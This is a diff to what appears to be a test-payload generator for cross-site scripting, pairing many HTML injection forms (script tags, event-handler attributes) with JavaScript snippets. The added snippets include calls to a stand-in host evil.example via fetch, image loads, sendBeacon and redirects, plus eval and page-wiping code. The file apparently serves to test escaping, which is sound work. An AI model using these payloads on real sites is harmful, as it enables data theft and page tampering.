@@ -1,6 +1,11 @@
 """Ways into a page: each form with each thing that it may run, in each text field of a trace."""
 
+import os
+
 RUNS = ("window.hit=1", "fetch('http://evil.example/x')", "location='http://evil.example/y'", "document.body.remove()")
+MORE_RUNS = ("eval('window.hit=1')", "new Image().src='http://evil.example/z'", "alert(1)", "open('http://evil.example/w')",
+             "navigator.sendBeacon('http://evil.example/v')", "setTimeout('window.hit=1')")  # fmt: skip
+"""Those of the long form."""
 FORMS = (
     "<script>{}</script>",
     "</script><script>{}</script>",
@@ -57,4 +62,8 @@ FORMS = (
     "<x style=animation-name:spin onanimationstart={}>",
     "<button popovertarget=x>o</button><p popover id=x onbeforetoggle={}>",
 )
-PAYLOADS = [form.format(run) for form in FORMS for run in RUNS]
+PAYLOADS = [
+    form.format(run)
+    for form in FORMS
+    for run in (*RUNS, *(MORE_RUNS if os.environ.get("WEAKLINK_PROMISES") == "long" else ()))
+]
